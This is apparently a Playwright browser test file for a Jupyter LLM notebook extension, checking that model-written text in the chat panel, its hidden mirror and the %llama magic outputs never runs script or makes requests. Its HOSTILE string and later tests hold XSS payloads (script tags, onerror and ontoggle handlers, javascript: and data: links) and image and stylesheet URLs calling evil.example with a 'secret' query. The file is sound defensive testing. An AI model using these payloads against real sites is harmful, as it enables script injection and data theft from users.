"""What a model writes is text: in the panel, in its mirror and below `%llama` it runs nothing and asks for nothing."""

from __future__ import annotations

import json
from collections.abc import Callable

import pytest
from playwright.sync_api import Page, expect

from tests.browser.conftest import Notebook, scripted

MakeNotebook = Callable[..., Notebook]

HOSTILE = """Before <script>window.pwned = 1</script> <img src=x onerror="window.pwned = 2"> <svg onload="window.pwned = 3">

<iframe srcdoc="<script>parent.pwned = 4</script>"></iframe>

![](http://evil.example/a.png?q=secret) ![b][ref] [c](javascript:window.pwned=5) [d](JaVaScRiPt:window.pwned=6)
[e](data:text/html,<script>parent.pwned=7</script>) <http://evil.example/f> [g](//evil.example/g)

<details open ontoggle="window.pwned = 8"><summary>x</summary></details> <style>@import "http://evil.example/h"</style>
<link rel=stylesheet href="http://evil.example/i"> <math><mtext></p><img src=x onerror="window.pwned = 9"></math>

$\\\\href{javascript:window.pwned=10}{x}$ `<img src=x onerror="window.pwned=11">`

[ref]: http://evil.example/b.png?q=secret

After it all.
"""


def _nothing_happened(page: Page, asked_for: list[str]) -> None:
    # What would run runs when its element is made, or when its image has failed to load: both are over after a request
    # of our own has come and gone.
    page.evaluate("() => fetch('/api/status').then(() => new Promise(requestAnimationFrame))")
    assert page.evaluate("window.pwned") is None
    assert asked_for == []
    assert page.locator('.jp-OutputArea a[href^="javascript" i], .jp-OutputArea a[href^="data" i]').count() == 0
    assert page.locator(".jp-OutputArea :is(iframe, script, svg[onload], img)").count() == 0


def test_hostile_text_does_nothing_in_the_panel(notebook: MakeNotebook, asked_for: list[str]) -> None:
    book = notebook(scripted(HOSTILE))
    book.run(0)
    book.ask("<img src=x onerror='window.pwned = 12'> <script>window.pwned = 13</script>")
    assert book.wait_for_answer().rstrip().endswith("After it all.")
    expect(book.page.locator(".jp-RenderedMarkdown")).to_contain_text("After it all.")  # the mirror, hidden
    _nothing_happened(book.page, asked_for)


def test_hostile_text_does_nothing_below_the_magic(notebook: MakeNotebook, asked_for: list[str]) -> None:
    book = notebook(scripted(HOSTILE, panel="%load_ext llama_nb"), "%llama hello", "%%llama\nhello")
    book.run(0)
    for cell in (1, 2):
        book.run(cell)
        expect(book.cell(cell).locator(".jp-OutputArea-output").first).to_contain_text("After it all.")
    _nothing_happened(book.page, asked_for)


def test_hostile_names_and_errors_do_nothing(notebook: MakeNotebook, asked_for: list[str]) -> None:
    evil = "<img src=x onerror='window.pwned = 1'>"
    call = "<|python_tag|>" + json.dumps({"type": "function", "name": "t", "parameters": {evil: evil}})
    cell = f"""
from llama_nb.apis.messages import ToolDefinition
chat.tools = [ToolDefinition(tool_name="t")]
chat.model = {evil!r}
panel = nb.Panel(chat); panel"""
    book = notebook(scripted(call, panel=cell))
    book.run(0)
    book.ask("?")  # no such model: the error names it
    expect(book.turns).to_have_attribute("data-phase", "failed")
    expect(book.turns).to_contain_text(evil)
    _nothing_happened(book.page, asked_for)


@pytest.mark.parametrize("text", ["<img src=x onerror='window.pwned = 1'>", "![](http://evil.example/a.png)"])
def test_the_check_sees_what_jupyter_itself_lets_through(
    notebook: MakeNotebook, asked_for: list[str], text: str
) -> None:
    """The negative control: the same text as plain Markdown output."""
    book = notebook(f"from IPython.display import Markdown; Markdown({text!r})")
    book.run(0)
    expect(book.cell(0).locator(".jp-RenderedMarkdown")).to_be_visible()
    with pytest.raises(AssertionError):
        _nothing_happened(book.page, asked_for)
